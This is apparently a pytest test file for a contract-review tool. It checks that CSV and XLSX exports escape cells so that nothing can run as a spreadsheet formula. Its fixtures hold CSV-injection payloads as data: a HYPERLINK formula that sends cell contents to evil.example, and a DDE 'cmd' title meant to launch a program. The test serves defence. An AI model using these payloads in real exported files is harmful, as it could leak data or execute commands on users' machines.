"""CSV and XLSX exports: one row per document, each cell's citation, and
nothing a document or a model wrote ever runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from openpyxl import load_workbook

from accounts.scoping import tenant_scope
from docuiq.testing.factories import make_document
from lib.spreadsheets import FORMULA_LEADS
from lib.tests import strategies
from tabular import export
from tabular.executor import review_run
from tabular.models import Cell
from tabular.services import ColumnSpec, review_create

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click") is the governing law clause.'
)


@pytest.fixture
def review(tenant_a, contracts):
    hostile = make_document(
        tenant_a,
        [f"{HOSTILE}\n\n@SUM(1+1) applies to payment terms."],
        title="=cmd|' /C calc'!A0",
    )
    review = review_create(
        tenant=tenant_a,
        name="Export test",
        document_ids=[contracts[0].pk, hostile.pk, contracts[1].pk],
        columns=[
            ColumnSpec(
                name="Governing law", question="Which law governs the agreement?"
            ),
            ColumnSpec(
                name="Payment (days)",
                question="Within how many days must invoices be paid?",
            ),
        ],
    )
    review_run(review_id=review.pk)
    return review


def _csv(review):
    with tenant_scope(review.tenant):
        text = export.review_csv(review)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_has_one_row_per_document_and_the_citation_per_cell(review, contracts):
    rows = _csv(review)
    head = rows[0]
    assert head[:3] == ["Document", "Document ID", "Document status"]
    assert head[3 : 3 + len(export.FIELDS)] == ["Governing law"] + [
        f"Governing law · {f}" for f in export.FIELDS[1:]
    ]
    assert len(rows) == 1 + 3
    acme = dict(zip(export.FIELDS, rows[1][3 : 3 + len(export.FIELDS)], strict=True))
    assert rows[1][0] == "Acme supply agreement" and rows[1][1] == str(contracts[0].pk)
    assert "England and Wales" in acme["quote"] and acme["value"]
    assert acme["original value"] == acme["value"] and acme["edited value"] == ""
    assert acme["review"] == "unreviewed" and acme["reviewer"] == ""
    assert acme["confidence"] in {"low", "medium", "high"}
    assert acme["status"] == "done" and acme["citation"] == "verified"
    assert acme["page"] == "2" and acme["stale"] == ""


def test_csv_cells_never_start_a_formula(review):
    rows = _csv(review)
    hostile = rows[2]
    assert hostile[0] == "'=cmd|' /C calc'!A0"
    for field in (f for row in rows for f in row):
        assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
    assert any(f.startswith("'=HYPERLINK") or "'=HYPERLINK" in f for f in hostile)


def test_failed_cells_say_why(tenant_a, contracts, review):
    with tenant_scope(tenant_a):
        cell = (
            Cell.objects.filter(review=review)
            .order_by("row__order", "column__order")
            .first()
        )
        Cell.objects.filter(pk=cell.pk).update(
            status="failed",
            confidence="failed",
            error="The model server at x failed with HTTP 503",
        )
    rows = _csv(review)
    status = rows[0].index("Governing law · status")
    assert rows[1][status] == "failed: The model server at x failed with HTTP 503"


def test_xlsx_holds_the_grid_and_a_citation_per_cell_as_plain_text(review):
    with tenant_scope(review.tenant):
        workbook = load_workbook(export.review_xlsx(review))
    grid, cites = workbook["Review"], workbook["Citations"]
    assert grid.max_row == 4 and grid["A2"].value == "Acme supply agreement"
    assert grid["A3"].value == "=cmd|' /C calc'!A0"  # kept as written...
    assert grid["A3"].data_type == "s"  # ...but as text, not a formula
    for row in grid.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    headers = [c.value for c in cites[1]]
    assert headers[:3] == ["Document", "Column", "Question"]
    assert cites.max_row == 1 + 3 * 2
    quote_column = headers.index("Quote") + 1
    quotes = [
        row[0].value
        for row in cites.iter_rows(
            min_row=2, min_col=quote_column, max_col=quote_column
        )
        if row[0].value
    ]
    assert any("England and Wales" in q for q in quotes)


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(text=strategies.HOSTILE)
def test_no_cell_of_either_export_starts_a_formula(review, text):
    with tenant_scope(review.tenant):
        Cell.objects.filter(review=review).update(value=text, typed_value=None)
        workbook = load_workbook(export.review_xlsx(review))
    cells = [c for row in _csv(review) for c in row]
    assert "'" + text in cells
    assert not any(c.startswith(FORMULA_LEADS) for c in cells)
    xlsx = [c for ws in workbook for row in ws.iter_rows() for c in row]
    assert text in [c.value for c in xlsx]
    assert not any(c.data_type == "f" for c in xlsx)
